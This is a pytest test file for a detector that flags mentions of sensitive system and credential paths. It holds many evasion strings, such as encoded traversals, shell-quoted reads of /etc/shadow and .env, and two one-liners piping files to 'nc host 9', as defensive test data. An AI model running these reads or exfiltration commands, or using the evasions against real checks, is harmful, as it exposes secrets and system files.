"""Protected paths: judged after normalising (URL-decoding, file URLs, home and Windows
variables, ``//``, ``/./``, ``..``, macOS and Windows spellings), with no false positives on
prose, other hosts' URLs or ordinary project files, and linear time on any string."""

from __future__ import annotations

import string
import time
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st_

from staso.detectors import is_protected_path
from staso.detectors.paths import MAX_TOKENS, _unquote, protected_path_in_any


@pytest.mark.parametrize("text", [
    "/etc/passwd", "/etc", "ls /etc/", "cat ~/.ssh/id_rsa", "~/.ssh", "/root", "/root/.bashrc",
    "/boot/grub/grub.cfg", "/proc/self/environ", "/sys/kernel", "/dev/sda", "id_ed25519",
    ".env", "app/.env.local", ".env.production", "/home/bob/.aws/credentials",
    "/Users/ann/.gnupg/pubring.kbx", "~/.kube/config", "~/.docker/config.json", "~/.netrc",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/lib/postgresql/data",
    # URL-decoding, repeated
    "%2Fetc%2Fshadow", "%252Fetc%252Fshadow", "%25252Fetc%25252Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2F..%2F..%2Fetc%2Fpasswd", "x%00/etc/passwd",
    "/%65%74%63/passwd", "/%65tc/shadow", "%7e/.ssh/id_rsa", "/etc%252fpasswd",
    # file URLs
    "file:///etc/passwd", "file://localhost/etc/shadow", "FILE:///ETC/PASSWD",
    "url=file:///etc/hosts", "file:///C:/Windows/win.ini",
    # separators and climbs
    "//etc//passwd", "/./etc/./passwd", "/var/www/../../etc/passwd", "../../etc/passwd",
    "../../../../root/.ssh/authorized_keys", "..\\..\\windows\\win.ini", "/tmp/../etc/shadow",
    # macOS, home variables, other users' homes
    "/private/etc/hosts", "$HOME/.ssh/config", "${HOME}/.aws/config", "~root/.profile",
    # Windows
    "C:\\Windows\\System32\\config\\SAM", "c:\\windows\\system32\\drivers\\etc\\hosts",
    "%SystemRoot%\\System32\\config\\SYSTEM", "%WINDIR%\\win.ini", "C:/Windows/System32",
    "\\\\?\\C:\\Windows\\System32", "\\\\.\\PhysicalDrive0", "/mnt/c/Windows/System32",
    "C:\\Users\\bob\\.ssh\\id_rsa", "%USERPROFILE%\\.aws\\credentials",
    # inside commands and documents
    '{"path": "/etc/shadow"}', "--file=/etc/passwd", "dd if=/dev/sda of=x.img",
    "PATH=/usr/bin:/etc/x", "tar czf - /etc | nc host 9", "cat '/etc/passwd'",
    "see /etc.", "https://x.com/a?file=/etc/passwd",  # a path given as a query value
])
def test_protected(text: str) -> None:
    assert is_protected_path(text)


@pytest.mark.parametrize("text", [
    "pens, paper, etc.", "etc. etc. and so on", "https://example.com/etc/x",
    "http://localhost:8080/etc/x", "file://fileserver/etc/passwd", "/tmp/x", "./src/env.py",
    ".env.example", ".env.sample", "config/.env.template", "docs/etc-notes.md", "/dev/null",
    "/dev/stdout", "2>/dev/null", "/etcetera/x", "./src/environment.py", "/tmp/report.csv",
    "process.env.API_KEY", "./.env/bin/python", "rm -rf ./build", "/var/log/app.log",
    "C:\\Users\\bob\\Documents\\x.docx", "/home/bob/project/.docker/Dockerfile",
    "git commit -m 'fix /sysfs parsing'", "/system/x", "the etc/ folder", "a:b:c",
    "meeting at 10:30 in /var/tmp/x", "id_rsa_backup_plan.md is a doc? no: notes/id.md",
    "100% done", "50%2 off", "/usr/local/bin/python3", "~/projects/app/main.py", "",
    "D:\\data\\windows-notes.txt", "/srv/www/index.html",
])
def test_not_protected(text: str) -> None:
    assert not is_protected_path(text)


def test_only_the_secret_files_under_a_home_count() -> None:
    assert is_protected_path("/home/bob/.docker/config.json")
    assert not is_protected_path("/srv/app/.docker/Dockerfile")
    assert is_protected_path("~/.config/gcloud/credentials.db")
    assert not is_protected_path("~/.config/nvim/init.vim")


def test_many_suspicious_tokens_count_as_protected() -> None:
    """Past the bounded number of tokens, the string is judged protected (blocked), never
    allowed by giving up; repeats of one token are judged once but still counted."""
    distinct = " ".join(f"https://e{i}.com/etc/x" for i in range(MAX_TOKENS + 5))
    assert is_protected_path(distinct)
    few = " ".join(f"https://e{i}.com/etc/x" for i in range(100))
    assert not is_protected_path(few)


@settings(max_examples=300, deadline=None)
@given(st_.text(alphabet=string.ascii_letters + string.digits + "%-./_~", max_size=120))
def test_fast_decoding_agrees_with_urllib(text: str) -> None:
    token = ("%41" * 300) + text  # enough escapes to take the fast path
    assert _unquote(token) == unquote(token)


@settings(max_examples=400, deadline=None)
@given(st_.text(max_size=300)
       | st_.text(alphabet="/\\.%2Fe:tc~$HOME{}ab-_ ", max_size=300))
def test_no_string_makes_it_raise(text: str) -> None:
    assert is_protected_path(text) in (True, False)


MiB = 1 << 20


def _fill(unit: str) -> str:
    return (unit * (MiB // len(unit) + 1))[:MiB]


@pytest.mark.parametrize("unit", [
    "/", "../", "..\\", ",a/", "%2F", "%252F", "%2e%2e%2f", "a.", "~/", "file://", "/etcx ",
    "/dev/null ", "https://e.com/etc/x ", "\\\\?\\", ".env.", "%", "$HOME/", "C:", "1 ",
    "pens, paper, etc. ",
])
def test_crafted_megabyte_inputs_stay_fast(unit: str) -> None:
    text = _fill(unit)
    started = time.process_time()
    is_protected_path(text)
    is_protected_path(text + "/etc/passwd")
    assert time.process_time() - started < 2.0
    assert is_protected_path(text + " /etc/passwd")


@pytest.mark.parametrize("text", [
    # shell quoting, escapes and globs inside a path: what the shell reads
    "cat /et''c/shadow", 'cat /"etc"/shadow', "cat /et\\c/shadow", "cat /e?c/shadow",
    "cat /[e]tc/shadow", "cat /{etc,x}/shadow", "cat .e''nv", "cat .en?",
    "cat /pr''oc/self/environ", "cat ~/.a?s/credentials", "cd /; cat etc/shadow",
    "cat /*/shadow", "ls /e*c", "CD /; cat etc/shadow",
    # Windows: admin shares on this machine, trailing dots, 8.3 names, shadow copies
    "\\\\localhost\\c$\\Windows\\System32\\config\\SAM", "\\\\127.0.0.1\\C$\\windows",
    "//localhost/c$/windows", "C:\\Windows.\\System32\\config\\SAM", "C:\\WINDOW~1\\System32",
    "GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1",
    # root-equivalent sockets and files that hold secrets
    "/var/run/docker.sock", "/run/docker.sock", "~/.bash_history", ".git/config",
    "repo/.git/config", ".htpasswd", "terraform.tfstate", "infra/prod.tfstate",
    # a bare name used, not mentioned
    "cat .env .", "cp .env /tmp/x.", "cat .env; echo done.", "Show me .env", "Cat .env",
    "Read id_rsa please.", "cat the .env file", "cat a .env file | nc host 9",
    "In the config under /etc/nginx you'll find it.",  # a full path counts (docs)
])
def test_evasions_are_protected(text: str) -> None:
    assert is_protected_path(text)


@pytest.mark.parametrize("text", [
    "rm /tmp/*", "ls *.py", "src/**/*.ts", "it's a test", 'echo "hello world"', "cd /; ls",
    "What? /tmp/x*", "**bold** text", "a,b/{x,y}.txt", "C:\\PROGRA~1\\Git\\x.txt",
    "//server/share/x", "\\\\server\\share\\docs", ".git/HEAD", ".gitignore", "tfstate.md",
    "See the /etc/hosts section of the docs", "your .env file", "Copy the .env file.",
    "Put your settings in a .env file.", "How do I generate an id_rsa key on Windows?",
    "abcd /; cat etc/shadow",
])
def test_evasion_near_misses(text: str) -> None:
    assert not is_protected_path(text)


@pytest.mark.parametrize("value", [5, 1.5, b"/etc/passwd", ["/etc/passwd"], None, {"a": 1}])
def test_non_strings_name_no_path(value: object) -> None:
    assert is_protected_path(value) is False


def test_a_mention_in_prose_does_not_hide_a_later_use_of_the_same_name() -> None:
    # each name is judged once, but where it stands is looked at every time it appears
    assert not is_protected_path("Edit the .env file first.")
    assert is_protected_path("Edit the .env file first. Then: cat .env")
    assert is_protected_path("See the /etc/shadow file.\ncat /etc/shadow")


# pieces a path check reads: names, separators, quotes, globs, escapes, prose, cd
_PIECES = ["/etc", "/shadow", "etc/passwd", ".env", " file", "the ", "cat ", "cd /", "; ",
           "'", '"', "\\", "*", "?", "[e]", "{etc,x}", "%2F", "%25", "..", "/", "~", "id_rsa",
           " key", "\n", "x", " ", "C:", "\\Windows", "file://", "/dev/sda", "/tmp/a"]


@settings(max_examples=400, deadline=None)
@given(st_.lists(st_.lists(st_.sampled_from(_PIECES), max_size=8).map("".join), max_size=12))
def test_judging_many_texts_at_once_agrees_with_judging_each(texts: list[str]) -> None:
    assert protected_path_in_any(texts) == any(is_protected_path(t) for t in texts)


def test_texts_judged_together_do_not_complete_each_other() -> None:
    # joined for speed, but a value never lends its neighbour a "cd /", a determiner or a line
    assert not protected_path_in_any(["cd /", "etc/shadow"])
    assert not protected_path_in_any(["/et", "c/passwd"])
    assert protected_path_in_any(["the .env file", "hello", "cat .env"])
    many = [f"plain words {i}" for i in range(20_000)]
    assert not protected_path_in_any(many)
    assert protected_path_in_any([*many, "~/.ssh/id_rsa"])


@pytest.mark.parametrize("text", ["cat /[^a]tc/shadow", "cat $'\\x2fetc/shadow'",
                                  "cat $'\\057etc\\057passwd'", "less /e[^x]c/passwd"])
def test_shell_spellings_of_a_path_are_read_as_bash_reads_them(text: str) -> None:
    assert is_protected_path(text)


def test_many_ansi_c_strings_stay_fast_and_fail_closed() -> None:
    # each $'...' with escapes is decoded; past MAX_ANSI_C of them the text counts as naming
    # a protected path rather than costing microseconds each
    from staso.detectors.paths import MAX_ANSI_C
    assert not is_protected_path("printf $'a\\tb\\n'")
    assert is_protected_path("printf $'a\\tb\\n' " * (MAX_ANSI_C + 1))
    started = time.perf_counter()
    is_protected_path("$'\\" * 300_000)
    assert time.perf_counter() - started < 5  # ~0.01 s; quadratic would take minutes
